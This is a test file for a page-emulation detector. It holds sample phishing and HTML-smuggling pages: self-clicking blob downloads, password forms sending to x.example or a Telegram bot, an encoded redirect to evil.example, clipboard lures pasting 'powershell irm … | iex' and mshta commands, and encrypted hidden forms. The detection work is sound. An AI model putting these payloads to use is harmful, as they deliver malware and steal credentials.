// Harmless pages of our own that do what phishing pages and smuggling pages do, and ordinary ones that do not.
import assert from 'node:assert/strict'
import { createCipheriv, createHash } from 'node:crypto'
import { test } from 'node:test'
import { runPage } from '../../src/emulate/js/run-page.ts'
import { firstSetting } from '../../src/emulate/setting.ts'
import { analyzeTrace, type TraceReport } from '../../src/trace/analyze.ts'
import type { Trace } from '../../src/trace/trace.ts'

async function seen(
  source: string,
): Promise<{ readonly trace: Trace; readonly report: TraceReport; readonly ids: readonly string[] }> {
  const { trace } = await runPage(
    source,
    firstSetting('page.html', new Date('2026-03-02T10:00:00Z'), () => performance.now()),
  )
  const report = analyzeTrace([trace], { path: 'page.html' })
  return { trace, report, ids: report.findings.map(({ id }) => id) }
}

const script = (code: string): string => `<html><body><script>${code}</script></body></html>`
const zip = `var s=atob('UEsDBBQAAAAIAA=='),u=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u[i]=s.charCodeAt(i);`

const SMUGGLERS: Readonly<Record<string, string>> = {
  'a blob and a link that clicks itself': `${zip}var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.zip';document.body.appendChild(a);a.click()`,
  'the old way of saving': `${zip}window.navigator.msSaveOrOpenBlob(new Blob([u]),'invoice.zip')`,
  'a data address': `var a=document.createElement('a');a.setAttribute('href','data:application/zip;base64,UEsDBBQAAAAIAA==');a.setAttribute('download','invoice.zip');a.dispatchEvent(new MouseEvent('click'));a.click()`,
  'later, after a promise': `${zip}new Promise(r=>setTimeout(r,3000)).then(()=>{var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.zip';a.click()})`,
  'only for a visitor who moves': `${zip}document.addEventListener('mousemove',()=>{var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.zip';a.click()})`,
  'written into the page': `document.write('<scr'+'ipt>${zip.replaceAll("'", "\\'")}var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u]));a.download="invoice.zip";a.click()</scr'+'ipt>')`,
}

for (const [name, code] of Object.entries(SMUGGLERS)) {
  test(`a smuggled file is kept: ${name}`, async () => {
    const { trace, ids } = await seen(script(code))
    assert.equal(trace.dropped[0]?.path, 'invoice.zip', JSON.stringify(trace.notCovered))
    assert.equal(
      Buffer.from(trace.dropped[0]?.bytes ?? [])
        .subarray(0, 2)
        .toString(),
      'PK',
    )
    assert.ok(ids.includes('trace_smuggles_file'))
  })
}

const THIEVES: Readonly<Record<string, string>> = {
  'a plain form':
    '<form method=post action="https://x.example/a.php"><input type=email name=u><input type=password name=p><button>Go</button></form>',
  'fetch after a press': `<input type=password id=p><button id=b>Go</button><script>document.getElementById('b').onclick=function(){fetch('https://x.example/a',{method:'POST',body:JSON.stringify({p:document.getElementById('p').value})})}</script>`,
  'a picture that carries it': `<form id=f><input name=p type=password><input type=submit></form><script>document.forms[0].addEventListener('submit',function(e){e.preventDefault();new Image().src='https://x.example/i.gif?p='+encodeURIComponent(document.forms[0].elements.p.value)})</script>`,
  'jQuery and a chat service': `<script src="https://code.jquery.com/jquery.min.js"></script><form id=f><input name=p type=password><button>Go</button></form><script>$('#f').submit(function(){$.post('https://api.telegram.org/bot1/sendMessage',{text:$('[name=p]').val()});return false})</script>`,
  'a form that the script writes': `<div id=r></div><script>document.getElementById('r').innerHTML=decodeURIComponent('%3Cform method=post action="https://x.example/a"%3E%3Cinput type=password name=p%3E%3Cbutton%3EGo%3C/button%3E%3C/form%3E')</script>`,
}

for (const [name, page] of Object.entries(THIEVES)) {
  test(`a password that is sent away is seen: ${name}`, async () => {
    const { ids, trace } = await seen(page)
    assert.ok(ids.includes('trace_takes_form_credentials'), JSON.stringify([trace.network, trace.notCovered]))
  })
}

test('a redirection that is put together is seen with its layer', async () => {
  const { trace, ids } = await seen(
    script(`eval(atob('bG9jYXRpb249Imh0dHBzOi8vIisiZXZpbC5leGFtcGxlLyIrbG9jYXRpb24uaGFzaA=='))`),
  )
  assert.ok(trace.network.some((event) => event.kind === 'http' && event.url.startsWith('https://evil.example/')))
  assert.ok(ids.includes('trace_page_leads_elsewhere'))
  assert.equal(trace.layers[0]?.technique, 'eval')
})

test('a command in the clipboard is a command', async () => {
  const { ids, report } = await seen(
    `<button onclick="navigator.clipboard.writeText('mshta https://x.example/a.hta')">I am human</button>`,
  )
  assert.ok(ids.includes('trace_puts_command_in_clipboard') && ids.includes('trace_abuses_system_tool'))
  assert.equal(report.verdict?.label, 'malicious')
})

test('a command that is shown beside the keys to press is one to be pasted', async () => {
  const { ids } = await seen(
    `<p>Press Windows + R, then Ctrl + V</p><pre>powershell -w h irm https://x.example/i|iex</pre><button onclick="navigator.clipboard.writeText('powershell -w h irm https://x.example/i|iex')">I am human</button>`,
  )
  assert.ok(ids.includes('trace_puts_command_in_clipboard'))
})

const HIDDEN_FORM =
  '<form action="https://files.example/a.php" method="post"><input name="u"><input type="password" name="p"><button>Sign in</button></form>'

test('what a page deciphers with a key of its own is read: CryptoJS, a password', async () => {
  const salt = Buffer.from('8 bytes!')
  const md5 = (last: Buffer): Buffer =>
    createHash('md5')
      .update(Buffer.concat([last, Buffer.from('k3y'), salt]))
      .digest()
  const first = md5(Buffer.alloc(0))
  const second = md5(first)
  const made = createCipheriv('aes-256-cbc', Buffer.concat([first, second]), md5(second))
  const sealed = Buffer.concat([Buffer.from('Salted__'), salt, made.update(HIDDEN_FORM), made.final()]).toString(
    'base64',
  )
  const { ids } = await seen(
    script(`document.write(CryptoJS.AES.decrypt("${sealed}", "k3y").toString(CryptoJS.enc.Utf8))`),
  )
  assert.ok(ids.includes('trace_takes_form_credentials'), ids.join())
})

test('what a page deciphers with a key of its own is read: crypto.subtle', async () => {
  const key = Buffer.from('0123456789abcdef')
  const made = createCipheriv('aes-128-cbc', key, Buffer.alloc(16))
  const sealed = Buffer.concat([made.update(HIDDEN_FORM), made.final()]).toString('base64')
  const { ids } = await seen(
    script(
      `(async()=>{const k=await crypto.subtle.importKey('raw',new TextEncoder().encode('0123456789abcdef'),'AES-CBC',false,['decrypt']);` +
        `const d=await crypto.subtle.decrypt({name:'AES-CBC',iv:new Uint8Array(16)},k,Uint8Array.from(atob('${sealed}'),c=>c.charCodeAt(0)));` +
        `document.write(new TextDecoder().decode(d))})()`,
    ),
  )
  assert.ok(ids.includes('trace_takes_form_credentials'), ids.join())
})

test('an HTML application has the objects of a script host', async () => {
  const { trace } = await seen(
    `<hta:application><script language="jscript">new ActiveXObject('WScript.Shell').Run('calc.exe',0)</script>`,
  )
  assert.deepEqual(
    trace.processes.slice(1).map(({ commandLine }) => commandLine),
    ['calc.exe'],
  )
})

const ORDINARY: Readonly<Record<string, string>> = {
  'an article':
    '<h1>News</h1><img src="https://cdn.example/a.png"><a href="https://www.example.com/about">About</a><script>document.title="x";setInterval(function(){document.title="t"+Date.now()},1000)</script>',
  'a search box': '<form action="https://www.example.com/search"><input name=q><button>Search</button></form>',
  'a copy button': `<button onclick="navigator.clipboard.writeText('npm install left-pad')">Copy</button>`,
  'a manual shows what its button copies': `<p>Open PowerShell and run:</p><pre id=c>powershell -c "irm https://x.example/i.ps1 | iex"</pre><button onclick="navigator.clipboard.writeText(document.getElementById('c').innerText)">Copy</button>`,
  'a report with a table that sorts': `<table id=t><tr><td>2</td></tr></table><script>var rows=[].slice.call(document.querySelectorAll('#t tr'));rows.sort(function(a,b){return a.textContent<b.textContent?-1:1}).forEach(function(r){document.getElementById('t').appendChild(r)})</script>`,
}

for (const [name, page] of Object.entries(ORDINARY)) {
  test(`an ordinary page is not accused: ${name}`, async () => {
    const { report } = await seen(page)
    assert.ok(report.verdict === null || report.verdict.label === 'unknown', JSON.stringify(report.verdict))
  })
}

const EXHAUSTING: Readonly<Record<string, string>> = {
  'a page that writes itself for ever':
    '<script>function f(){document.write("<scr"+"ipt>f()</scr"+"ipt>")}f()</script>',
  'deep nesting': '<div>'.repeat(100_000),
  'many elements': '<p>'.repeat(200_000),
  'timers that make timers': script('function f(){setTimeout(f,0);setTimeout(f,0)}f()'),
  'dialogs without end': script('for(;;)alert(1)'),
}

for (const [name, page] of Object.entries(EXHAUSTING)) {
  test(`${name} ends in a told result`, async () => {
    const { trace } = await seen(page)
    assert.ok(trace.exit.how.length > 0 && JSON.stringify(trace).length < 30_000_000)
  })
}
